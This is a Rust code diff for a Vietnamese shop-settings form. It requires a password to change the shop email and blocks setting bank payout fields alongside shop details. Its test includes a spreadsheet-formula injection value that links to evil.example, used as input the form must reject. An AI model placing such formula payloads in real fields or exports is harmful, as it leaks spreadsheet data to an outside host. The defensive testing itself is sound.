@@ -339,6 +339,10 @@ pub struct ShopInput {
     pub bank_account_name: String,
     #[serde(default)]
     pub story: String,
+    /// The account's password, needed to change the shop's email (a stolen session must not
+    /// move the shop's notices, and with them the payout-account alert, elsewhere).
+    #[serde(default)]
+    pub password: String,
     /// Checkboxes: present ("1") means on.
     #[serde(default)]
     pub notify_email: Option<String>,
@@ -365,10 +369,11 @@ impl ShopInput {
             email: s.email.clone().unwrap_or_default(),
             zalo_phone: s.zalo_phone.clone().unwrap_or_default(),
             telegram_chat_id: s.telegram_chat_id.clone().unwrap_or_default(),
-            bank_bin: s.bank_bin.clone().unwrap_or_default(),
-            bank_account_no: s.bank_account_no.clone().unwrap_or_default(),
-            bank_account_name: s.bank_account_name.clone().unwrap_or_default(),
+            bank_bin: String::new(),
+            bank_account_no: String::new(),
+            bank_account_name: String::new(),
             story: s.story.clone(),
+            password: String::new(),
             notify_email: checkbox(s.notify_email),
             notify_zalo: checkbox(s.notify_zalo),
             notify_telegram: checkbox(s.notify_telegram),
@@ -383,7 +388,6 @@ pub struct ShopFields {
     pub email: Option<Email>,
     pub zalo_phone: Option<PhoneVn>,
     pub telegram_chat_id: Option<String>,
-    pub bank: Option<(String, String, String)>,
     pub story: String,
     /// Channels for notices: email, Zalo, Telegram.
     pub notify: (bool, bool, bool),
@@ -419,34 +423,20 @@ impl ShopInput {
                 }
             }),
         );
-        let bin = self.bank_bin.trim();
-        let acct = self.bank_account_no.trim();
-        let acct_name = self.bank_account_name.trim();
-        let bank = if bin.is_empty() && acct.is_empty() && acct_name.is_empty() {
-            None
-        } else {
-            if !(bin.len() == 6 && bin.bytes().all(|b| b.is_ascii_digit())) {
+        // Where the money goes is set only through the payout account (password, bank list,
+        // hold, audit, notice: `payouts::store::set_account`), never with the shop's details.
+        for (field, value) in [
+            ("bank_bin", &self.bank_bin),
+            ("bank_account_no", &self.bank_account_no),
+            ("bank_account_name", &self.bank_account_name),
+        ] {
+            if !value.trim().is_empty() {
                 e.add(
-                    "bank_bin",
-                    "mã BIN ngân hàng gồm đúng 6 chữ số (ví dụ 970436)",
+                    field,
+                    "Tài khoản nhận tiền chỉ đặt ở mục “Tài khoản nhận tiền” (kèm mật khẩu), không đặt cùng thông tin cửa hàng",
                 );
             }
-            if !((6..=19).contains(&acct.len()) && acct.bytes().all(|b| b.is_ascii_alphanumeric()))
-            {
-                e.add(
-                    "bank_account_no",
-                    "số tài khoản gồm 6 đến 19 chữ số hoặc chữ cái",
-                );
-            }
-            if acct_name.chars().count() < 3 || acct_name.chars().count() > 50 {
-                e.add("bank_account_name", "tên chủ tài khoản từ 3 đến 50 ký tự");
-            }
-            Some((
-                bin.to_string(),
-                acct.to_string(),
-                crate::domain::text::fold(acct_name).to_uppercase(),
-            ))
-        };
+        }
         let story = e.check("story", clean_text(&self.story, "giới thiệu", 4000));
         e.into_result()?;
         Ok(ShopFields {
@@ -455,7 +445,6 @@ impl ShopInput {
             email: email.unwrap(),
             zalo_phone: zalo.unwrap(),
             telegram_chat_id: telegram.unwrap(),
-            bank,
             story: story.unwrap(),
             notify: (
                 flag(&self.notify_email),
@@ -504,20 +493,27 @@ mod tests {
     }
 
     #[test]
-    fn shop_bank_details_all_or_nothing() {
-        let mut s = ShopInput {
+    fn shop_details_never_carry_bank_fields() {
+        let s = ShopInput {
             name: "Màn tuyn Bà Lan".into(),
             phone: "0912345678".into(),
-            bank_bin: "970436".into(),
+            bank_bin: "999999".into(),
+            bank_account_no: "ABCDEF123".into(),
+            bank_account_name: r#"=HYPERLINK("http://evil.example/?"&A1,"Bam vao")"#.into(),
             ..Default::default()
         };
         let Err(AppError::Validation(f)) = s.parse() else {
             panic!()
         };
-        assert!(f.get("bank_account_no").is_some());
-        s.bank_account_no = "0011001234567".into();
-        s.bank_account_name = "Nguyễn Thị Lan".into();
-        let ok = s.parse().unwrap();
-        assert_eq!(ok.bank.unwrap().2, "NGUYEN THI LAN");
+        for k in ["bank_bin", "bank_account_no", "bank_account_name"] {
+            assert!(f.get(k).is_some(), "{k}");
+        }
+        let ok = ShopInput {
+            bank_bin: String::new(),
+            bank_account_no: String::new(),
+            bank_account_name: String::new(),
+            ..s
+        };
+        assert!(ok.parse().is_ok());
     }
 }
